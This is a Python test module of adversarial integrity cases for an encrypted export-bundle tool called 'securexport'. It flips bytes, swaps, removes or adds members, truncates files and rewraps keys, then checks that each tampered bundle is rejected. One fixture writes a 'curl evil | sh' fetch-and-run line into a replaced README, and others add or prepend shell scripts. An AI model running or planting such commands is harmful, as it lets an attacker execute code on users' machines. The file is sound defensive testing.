"""A. Archive and crypto integrity: flipped, swapped, removed, added, truncated, re-wrapped."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest

from securexport import api
from securexport._crypto import agefile
from securexport.bundle.container import (
    APPROVAL,
    APPROVAL_SIG,
    KEY_FILE,
    MANIFEST,
    MANIFEST_SIG,
    MEMBER_ORDER,
    PAYLOAD,
    README,
    RECEIPT,
)
from securexport.limits import Limits
from tests.adversarial.harness import CANARY, Ctx, run_case
from tests.adversarial.registry import Case, RecordProperty, case, params


def flip(data: bytes, at: int | None = None) -> bytes:
    pos = len(data) // 2 if at is None else at
    return data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1 :]


# --- one flipped byte in each part (the bundle rewritten, so its CRCs are right) -----------

_FLIPS = {
    PAYLOAD: ("payload", r"payload\.zip does not match"),
    KEY_FILE: ("key-file", r"payload\.key\.age does not match"),
    MANIFEST: ("manifest", "signature is invalid or malformed"),
    MANIFEST_SIG: ("manifest-sig", "signature is invalid or malformed"),
    APPROVAL: ("approval", r"approval signature is invalid"),
    APPROVAL_SIG: ("approval-sig", r"approval signature is invalid"),
    RECEIPT: ("receipt", r"signed note has no signature by a trusted key"),
}


def _register_flip(member: str, slug: str, message: str) -> None:
    @case("A", f"{slug}-byte-flipped", 5, f"one byte flipped in {member}", message=message)
    def run(ctx: Ctx) -> int:
        members = ctx.members(ctx.bundle)
        members[member] = flip(members[member])
        return ctx.decrypt(ctx.write(members))


for _member, (_slug, _message) in _FLIPS.items():
    _register_flip(_member, _slug, _message)


@case(
    "A",
    "payload-byte-flipped-cli",
    5,
    "one byte flipped in payload.zip, through `securexport decrypt`",
    via="cli",
    message=r"payload\.zip does not match the manifest \(sha256\)",
)
def _flip_cli(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    members[PAYLOAD] = flip(members[PAYLOAD], 100)
    bundle = ctx.write(members)
    return ctx.cli(["decrypt", str(bundle), "--as", "force", "-o", str(ctx.out)])


@case(
    "A",
    "raw-byte-flipped-crc",
    5,
    "one byte flipped in the bundle file itself (member CRC no longer matches)",
    message=r"malformed archive: member checksum mismatch",
)
def _raw_flip(ctx: Ctx) -> int:
    data = ctx.bundle.read_bytes()
    with zipfile.ZipFile(ctx.bundle) as zf:
        info = zf.getinfo(MANIFEST)
    target = ctx.root / "raw-flip.sxb"
    target.write_bytes(flip(data, info.header_offset + 30 + len(MANIFEST) + 10))
    return ctx.decrypt(target)


# --- members swapped, removed, added, duplicated ------------------------------------------


@case(
    "A",
    "members-reordered",
    5,
    "manifest.json placed before payload.key.age",
    message="malformed archive: bundle members are out of order",
)
def _reordered(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    order = list(MEMBER_ORDER[:-1])
    order[1], order[2] = order[2], order[1]
    return ctx.decrypt(ctx.write_raw([(n, members[n]) for n in order]))


def _register_removed(member: str) -> None:
    @case(
        "A",
        f"{member}-removed",
        5,
        f"{member} removed from the bundle",
        # not a prefix: "lacks manifest.json" must not be satisfied by "lacks manifest.json.sig"
        message=rf"the bundle lacks {re.escape(member)}(?![\w.])",
    )
    def run(ctx: Ctx) -> int:
        members = ctx.members(ctx.bundle)
        del members[member]
        return ctx.decrypt(ctx.write_raw(list(members.items())))


for _member in (PAYLOAD, KEY_FILE, MANIFEST, MANIFEST_SIG, APPROVAL, APPROVAL_SIG, RECEIPT):
    _register_removed(_member)


@case(
    "A",
    "member-added",
    5,
    "an extra member `run-me.sh` added",
    message="malformed archive: unexpected member in the bundle",
)
def _added(ctx: Ctx) -> int:
    members = list(ctx.members(ctx.bundle).items())
    members.insert(3, ("run-me.sh", b"#!/bin/sh\n"))
    return ctx.decrypt(ctx.write_raw(members))


@case(
    "A",
    "member-duplicated",
    5,
    "manifest.json present twice",
    message=r"malformed archive: duplicate entry name",
)
def _duplicated(ctx: Ctx) -> int:
    items = list(ctx.members(ctx.bundle).items())
    items.insert(3, (MANIFEST, items[2][1]))
    return ctx.decrypt(ctx.write_raw(items))


# --- truncation and junk -------------------------------------------------------------------


def _register_truncation(slug: str, title: str, cut: float) -> None:
    @case(
        "A",
        f"truncated-{slug}",
        5,
        f"bundle truncated {title}",
        message="malformed archive: no end of central directory record at the end of the file",
    )
    def run(ctx: Ctx) -> int:
        data = ctx.bundle.read_bytes()
        keep = int(len(data) * cut) if cut < 1 else len(data) - int(cut)
        target = ctx.root / f"truncated-{slug}.sxb"
        target.write_bytes(data[:keep])
        return ctx.decrypt(target)


for _slug, _title, _cut in (
    ("10pct", "to 10% of its size", 0.10),
    ("50pct", "to half its size", 0.50),
    ("inside-central-dir", "to 99% (inside the central directory)", 0.99),
    ("end-record", "by 22 bytes (no end record)", 22),
    ("last-byte", "by its last byte", 1),
):
    _register_truncation(_slug, _title, _cut)


@case(
    "A",
    "trailing-junk",
    5,
    "64 bytes appended after the end record",
    message="malformed archive: no end of central directory record at the end of the file",
)
def _trailing(ctx: Ctx) -> int:
    target = ctx.root / "trailing.sxb"
    target.write_bytes(ctx.bundle.read_bytes() + b"J" * 64)
    return ctx.decrypt(target)


@case(
    "A",
    "prepended-junk",
    5,
    "a shell script prepended (self-extractor style)",
    message="malformed archive: data between the central directory and the end record",
)
def _prepended(ctx: Ctx) -> int:
    target = ctx.root / "prepended.sxb"
    target.write_bytes(b"#!/bin/sh\nexit 0\n" + ctx.bundle.read_bytes())
    return ctx.decrypt(target)


@case(
    "A",
    "outer-member-deflated",
    5,
    "an outer member compressed (deflate) instead of stored",
    message="malformed archive: compression method 8 is not allowed here",
)
def _deflated(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    target = ctx.root / "deflated.sxb"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as zf:
        for name in MEMBER_ORDER[:-1]:
            kind = zipfile.ZIP_DEFLATED if name == README else zipfile.ZIP_STORED
            zf.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), members[name], kind)
    return ctx.decrypt(target)


# --- entries that are not AES-256 AE-2 (re-signed and logged by the exporter) -------------


def _csv(ctx: Ctx) -> tuple[dict[str, bytes], int]:
    files = ctx.plaintext(ctx.members(ctx.bundle))
    ((_name, data),) = files.items()
    return files, data.count(b"\r\n") - 1


@case(
    "A",
    "payload-aes128",
    5,
    "payload entry encrypted with AES-128, manifest re-signed",
    message=r"a payload entry is not AES-256 \(AE-2\) encrypted",
)
def _aes128(ctx: Ctx) -> int:
    files, rows = _csv(ctx)
    return ctx.decrypt(ctx.forge_content(files, rows, nbits=128))


@case(
    "A",
    "payload-ae1",
    5,
    "payload entry in AE-1 (plaintext CRC exposed), re-signed",
    message=r"a payload entry is not AES-256 \(AE-2\) encrypted",
)
def _ae1(ctx: Ctx) -> int:
    files, rows = _csv(ctx)
    return ctx.decrypt(ctx.forge_content(files, rows, ae_version=1))


@case(
    "A",
    "payload-unencrypted",
    5,
    "payload entry stored in the clear (plain deflate), re-signed and logged",
    via="cli",
    message="malformed archive: compression method 8 is not allowed here",
)
def _plain(ctx: Ctx) -> int:
    files, rows = _csv(ctx)
    assert CANARY.encode() in next(iter(files.values()))
    bundle = ctx.forge_content(files, rows, encrypt=False)
    return ctx.cli(["decrypt", str(bundle), "--as", "force", "-o", str(ctx.out)])


# --- key files --------------------------------------------------------------------------


def _rewrap(ctx: Ctx, recipients: list[str]) -> Path:
    members = ctx.members(ctx.bundle)
    identity = ctx.keystore("recipient").age_identity("force")
    password = agefile.decrypt(members[KEY_FILE], [identity], max_bytes=256)
    members[KEY_FILE] = agefile.encrypt(password, recipients)
    return ctx.write(ctx.resign(members), "rewrapped.sxb")


@case(
    "A",
    "key-file-for-someone-else",
    5,
    "payload.key.age wrapped only for an outsider, re-signed",
    message=r"payload\.key\.age is wrapped for a different number of keys than the approval names",
)
def _key_outsider(ctx: Ctx) -> int:
    return ctx.decrypt(_rewrap(ctx, [ctx.world.ids["outsider"].age_recipient]))


@case(
    "A",
    "key-file-for-two-strangers",
    4,
    "payload.key.age wrapped for two other keys (count right), re-signed",
    message="is not a recipient of this bundle",
)
def _key_strangers(ctx: Ctx) -> int:
    a, b = agefile.generate_identity()[1], agefile.generate_identity()[1]
    return ctx.decrypt(_rewrap(ctx, [a, b]))


@case(
    "A",
    "key-file-passphrase",
    5,
    "payload.key.age replaced by a passphrase (scrypt) file, re-signed",
    message="unexpected age stanza type 'scrypt'",
)
def _key_scrypt(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    members[KEY_FILE] = agefile.passphrase_encrypt(b"x" * 43, b"guessable", log_n=2)
    return ctx.decrypt(ctx.write(ctx.resign(members)))


@case(
    "A",
    "key-file-from-other-export",
    5,
    "payload.key.age swapped with another export's",
    message=r"payload\.key\.age does not match the manifest \(sha256\)",
)
def _key_swap(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    members[KEY_FILE] = ctx.members(ctx.second_bundle)[KEY_FILE]
    return ctx.decrypt(ctx.write(members))


@case(
    "A",
    "key-file-from-other-export-resigned",
    5,
    "payload.key.age from another export, manifest re-signed and logged",
    message=r"the payload failed to decrypt or verify \(wrong key, or tampered\)",
)
def _key_swap_resigned(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    members[KEY_FILE] = ctx.members(ctx.second_bundle)[KEY_FILE]
    return ctx.decrypt(ctx.write(ctx.resign(members)))


@case(
    "A",
    "payload-from-other-export",
    5,
    "payload.zip swapped with another export's",
    message=r"payload\.zip does not match the manifest \(sha256\)",
)
def _payload_swap(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    members[PAYLOAD] = ctx.members(ctx.second_bundle)[PAYLOAD]
    return ctx.decrypt(ctx.write(members))


# --- the file itself ------------------------------------------------------------------------


@case(
    "A",
    "bundle-is-directory",
    7,
    "the bundle path is a directory",
    message=r"cannot open \S*/dir\.sxb: Is a directory",
)
def _is_dir(ctx: Ctx) -> int:
    target = ctx.root / "dir.sxb"
    target.mkdir()
    ctx.planted.add(target)
    return ctx.decrypt(target)


@case(
    "A",
    "bundle-missing",
    7,
    "the bundle does not exist",
    message=r"cannot open \S*/nowhere\.sxb: No such file or directory",
)
def _missing(ctx: Ctx) -> int:
    return ctx.decrypt(ctx.root / "nowhere.sxb")


@case(
    "A",
    "bundle-over-size-limit",
    5,
    "a bundle above max_bundle_bytes is refused before parsing",
    message=r"is larger than the bundle size limit \(4096 bytes\)",
)
def _too_big(ctx: Ctx) -> int:
    return ctx.api(api.verify, ctx.world.recipient, ctx.bundle, Limits(max_bundle_bytes=4096))


@case(
    "A",
    "readme-replaced",
    0,
    "README.txt replaced: not signed by design (instructions only); verify passes, see docs",
)
def _readme(ctx: Ctx) -> int:
    members = ctx.members(ctx.bundle)
    members[README] = b"Run: curl evil | sh\n"
    return ctx.verify(ctx.write(members))


@pytest.mark.parametrize("case", params("A"))
def test_case(case: Case, ctx: Ctx, record_property: RecordProperty) -> None:
    record_property("adversarial_case", case.id)
    run_case(case, ctx)
